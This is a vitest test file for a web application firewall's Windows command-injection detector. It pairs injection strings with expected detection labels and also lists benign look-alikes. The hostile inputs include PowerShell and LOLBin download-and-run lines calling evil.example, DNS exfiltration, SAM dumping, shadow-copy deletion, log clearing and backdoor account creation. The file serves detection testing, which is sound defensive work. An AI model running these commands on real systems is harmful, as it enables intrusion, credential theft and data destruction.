// cmd.exe / PowerShell command injection (rce/windows.ts through the rce detector).
import { describe, it, expect } from 'vitest';
import { rce } from '../../../../src/waf/detectors/rce.js';
import { GET, POST_JSON } from './helpers.js';

const stamp = (v: string) => rce.detect(v, GET)?.stamp ?? null;

describe('rce: Windows commands', () => {
  describe('after a separator: binaries, cmdlets, executables, paths, %ENV% expansions', () => {
    it.each([
      ['| net user', 'rce:windows-command'],
      ['& net1 user', 'rce:windows-command'],
      ['& net localgroup administrators', 'rce:windows-command'],
      ['& %COMSPEC% /c whoami', 'rce:windows-command'],
      ['& %WINDIR%\\System32\\cmd.exe /c dir', 'rce:windows-command'],
      ['& calc.exe', 'rce:windows-command'],
      ['| C:\\Users\\Public\\payload.exe', 'rce:windows-command'],
      ['& \\\\203.0.113.7\\share\\x.bat', 'rce:windows-command'],
      ['& Start-Process notepad', 'rce:powershell-command'],
      ['; Get-ChildItem C:\\Users', 'rce:powershell-command'],
      ['& sc query', 'rce:windows-command'],
      ['& wevtutil qe Security', 'rce:windows-command'],
      ['|%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c whoami', 'rce:recon'],
      ["' || ipconfig /all || '", 'rce:windows-command'],
      ['a" & type %SYSTEMROOT%\\win.ini & "', 'rce:separator-command'],
      ["& for /f %i in ('whoami') do nslookup %i.x.example", 'rce:separator-command'],
    ])('%s', (v, s) => expect(stamp(v)).toBe(s));
  });

  describe('execution shapes in any context', () => {
    it.each([
      ['powershell -EncodedCommand dwBoAG8AYQBtAGkAOwAgAEkAbgB2AG8AawBl', 'rce:powershell-encoded'],
      ['pwsh -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj', 'rce:powershell-encoded'],
      ["powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')\"", 'rce:powershell-download'],
      ['powershell -w hidden -c Get-Date', 'rce:powershell-hidden'],
      ['| iex (iwr http://evil.example/a.ps1 -UseBasicParsing)', 'rce:pipe-to-shell'],
      ['iex (irm http://evil.example/a.ps1)', 'rce:powershell-download'],
      ['certutil -urlcache -split -f http://evil.example/x.exe x.exe', 'rce:windows-lolbin'],
      ['bitsadmin /transfer j http://evil.example/x.exe C:\\x.exe', 'rce:windows-lolbin'],
      ['mshta http://evil.example/x.hta', 'rce:windows-lolbin'],
      ['regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll', 'rce:windows-lolbin'],
      ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'rce:windows-lolbin'],
      ['msiexec /q /i http://evil.example/x.msi', 'rce:windows-lolbin'],
      ['wmic /node:10.0.0.5 process call create "cmd /c whoami"', 'rce:windows-lolbin'],
      ['schtasks /create /sc minute /tn upd /tr C:\\x.exe', 'rce:windows-persistence'],
      ['vssadmin delete shadows /all /quiet', 'rce:windows-destructive'],
      ['x & wevtutil cl Security', 'rce:windows-destructive'],
      ['bcdedit /set {default} recoveryenabled No', 'rce:windows-destructive'],
      ['reg save HKLM\\SAM C:\\sam.hiv', 'rce:windows-credentials'],
      ['net user backdoor P@ss1 /add', 'rce:windows-account'],
      ['& c^m^d /c who^ami', 'rce:obfuscated-command'],
      ['| p^o^w^e^r^s^h^e^l^l -c whoami', 'rce:obfuscated-command'],
    ])('%s', (v, s) => expect(stamp(v)).toBe(s));
  });

  describe('look-alikes pass', () => {
    it.each([
      'Next.js & React; Node.js | Vue.js',
      'Download setup.exe and run it; the installer.msi also works',
      'Please open C:\\Program Files\\App\\app.exe; it should start',
      'price: 50% & 30%off; code %PROMO%',
      "Good morning! Let's get-together & celebrate; start-up life",
      'Get-ChildItem -Path C:\\Users -Recurse | Where-Object { $_.Length -gt 1MB }',
      'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser',
      'OK so I ran "ipconfig /flushdns" and "netsh winsock reset" like your agent said, still nothing.',
      'Tom & example.com | net profit',
      'R&D; Q&A; M&A; P&L',
      'C:\\Users\\me\\Documents\\report.docx',
      'Start-Process is how you launch a program from PowerShell',
      'IEX Cloud; pricing and plans',
      'Nasdaq & IEX | NYSE',
      'reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters',
    ])('%s', (v) => expect(rce.detect(v, POST_JSON)).toBeNull());
  });
});
